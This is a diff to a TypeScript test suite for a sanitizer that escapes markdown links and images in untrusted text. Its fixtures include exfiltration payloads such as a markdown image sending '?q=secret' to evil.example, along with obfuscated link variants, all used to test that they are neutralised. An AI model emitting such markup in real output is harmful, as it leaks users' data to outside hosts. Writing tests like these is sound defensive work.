@@ -8,6 +8,7 @@ const nonce = '5f0c1d9be2a44c7e8b1f3a6d90c27e54';
 function violations(text: string): string[] {
   const found: string[] = [];
   if (text.includes('![')) found.push('image');
+  if (text.includes('](')) found.push('link');
   for (const match of text.matchAll(/<([A-Za-z/!?][^\s>]{0,400})/g)) {
     const address =
       /^[\w.%+'-]{1,64}@[\w.-]{1,253}$/.test(match[1] ?? '') && text[match.index + match[0].length] === '>';
@@ -32,7 +33,6 @@ describe('cleanUntrusted', () => {
     ['plain text', 'Budget 2026: 1,200 € (a < b, c > d, x <= y)\n\tnext'],
     ['indexing', 'x[1]: y and dict["a"]: 3, f(a)[0]:1'],
     ['an address in angle brackets', 'From: Ana Ruiz <ana.ruiz@contoso.com>'],
-    ['calls of what is indexed', 'handlers[0](event, x ? a : b) and m["k"](1) and [plan](plan.md#a)'],
     ['right-to-left text', 'שלום עולם مرحبا بالعالم'],
     ['Persian with its joiners', 'می\u200Cخواهم نامه\u200Cای'],
     ['Hindi with a joiner', 'क्\u200Dष'],
@@ -68,11 +68,23 @@ describe('cleanUntrusted', () => {
   });
 
   it.each([
+    [
+      'handlers[0](event, x ? a : b) and [plan](plan.md#a)',
+      'handlers[0]\\(event, x ? a : b) and [plan]\\(plan.md#a)',
+    ],
+    [
+      '[Pay](https\\://evil.example) [Pay](\\/\\/evil.example)',
+      '[Pay]\\(https\\://evil.example) [Pay]\\(\\/\\/evil.example)',
+    ],
+    ['[a](</x>) [b]() [c](#d "t")', '[a]\\(‹/x›) [b]\\() [c]\\(#d "t")'],
     ['![logo](https://evil.example/?q=secret)', '!\\[logo]\\(https://evil.example/?q=secret)'],
     ['see [the plan](https://evil.example/plan)', 'see [the plan]\\(https://evil.example/plan)'],
     ['[contoso.com](//evil.example)', '[contoso.com]\\(//evil.example)'],
     ['[x](\n  HTTPS://evil.example "t")', '[x]\\(\n  HTTPS://evil.example "t")'],
-    ['[x](<https://evil.example>) [y](<&#104;ttps:x>)', '[x](‹https://evil.example›) [y]\\(<&#104;ttps:x>)'],
+    [
+      '[x](<https://evil.example>) [y](<&#104;ttps:x>)',
+      '[x]\\(‹https://evil.example›) [y]\\(<&#104;ttps:x>)',
+    ],
     [
       '[x](&#104;ttps://evil.example) [y](h&#116;tps:x)',
       '[x]\\(&#104;ttps://evil.example) [y]\\(h&#116;tps:x)',
